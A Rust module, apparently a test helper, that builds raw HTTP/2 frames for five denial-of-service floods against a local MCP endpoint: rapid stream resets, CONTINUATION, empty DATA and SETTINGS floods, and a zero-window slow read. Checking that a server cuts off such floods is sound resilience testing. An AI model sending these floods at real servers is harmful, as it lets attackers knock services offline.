//! Frames of HTTP/2 as an attacker writes them, and the floods that are made of them.

use crate::caller::echo;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const INITIAL_WINDOW_SIZE: u16 = 4;
const CANCEL: u32 = 8;
/// How many calls one connection may have at once by default.
const STREAMS: u32 = 100;

/// How many frames a flood has.
const FLOOD: u32 = 10_000;

pub(crate) struct Flood {
    pub(crate) name: &'static str,
    pub(crate) bytes: Vec<u8>,
    /// Whether the server has to end the connection soon. If not, the attacker keeps it for as long as it may.
    pub(crate) is_cut: bool,
}

pub(crate) fn floods() -> [Flood; 5] {
    let open = [PREFACE, &settings(&[])].concat();
    let shut = [PREFACE, &settings(&[(INITIAL_WINDOW_SIZE, 0)])].concat();
    let begun = |flags| [&open[..], &frame(HEADERS, flags, 1, &call_headers())].concat();
    let more = frame(CONTINUATION, 0, 1, &header("x-more", &"x".repeat(100)));
    let empty = frame(DATA, 0, 1, &[]);
    let flood = |name, begin: &[u8], part: &dyn Fn(u32) -> Vec<u8>| {
        let bytes = begin.iter().copied().chain((0..FLOOD).flat_map(part)).collect();
        Flood { name, bytes, is_cut: true }
    };
    [
        flood("rapid resets", &open, &|n| [call(n), frame(RST_STREAM, 0, stream(n), &CANCEL.to_be_bytes())].concat()),
        flood("CONTINUATION", &begun(0), &|_| more.clone()),
        flood("empty DATA", &begun(END_HEADERS), &|_| empty.clone()),
        flood("SETTINGS", &open, &|n| settings(&[(INITIAL_WINDOW_SIZE, n)])),
        Flood {
            name: "zero window for ever",
            bytes: shut.into_iter().chain((0..STREAMS).flat_map(whole_call)).collect(),
            is_cut: false,
        },
    ]
}

/// The id of the client's stream of this number.
fn stream(n: u32) -> u32 {
    2 * n + 1
}

/// A call whose body is still to come.
fn call(n: u32) -> Vec<u8> {
    frame(HEADERS, END_HEADERS, stream(n), &call_headers())
}

fn whole_call(n: u32) -> Vec<u8> {
    let whole = echo(None);
    let body_at = whole.windows(4).position(|end| end == b"\r\n\r\n").map_or(0, |at| at + 4);
    [call(n), frame(DATA, END_STREAM, stream(n), &whole[body_at..])].concat()
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    // Payloads here are of some hundred bytes: the length's first byte is never used.
    let length = u16::try_from(payload.len()).unwrap_or(u16::MAX).to_be_bytes();
    [&[0, length[0], length[1], kind, flags], &stream.to_be_bytes()[..], payload].concat()
}

fn settings(values: &[(u16, u32)]) -> Vec<u8> {
    let one = |(id, value): &(u16, u32)| [&id.to_be_bytes()[..], &value.to_be_bytes()].concat();
    frame(SETTINGS, 0, 0, &values.iter().flat_map(one).collect::<Vec<_>>())
}

/// A header without compression (RFC 7541, section 6.2.2), of a name and a value of less than 127 bytes.
fn header(name: &str, value: &str) -> Vec<u8> {
    let text = |text: &str| [&[u8::try_from(text.len()).unwrap_or(126)], text.as_bytes()].concat();
    [vec![0], text(name), text(value)].concat()
}

fn call_headers() -> Vec<u8> {
    let headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/mcp"),
        (":authority", "127.0.0.1"),
        ("content-type", "application/json"),
        ("accept", "application/json, text/event-stream"),
        ("mcp-protocol-version", "2026-07-28"),
        ("mcp-method", "tools/call"),
        ("mcp-name", "echo"),
    ];
    headers.iter().flat_map(|(name, value)| header(name, value)).collect()
}
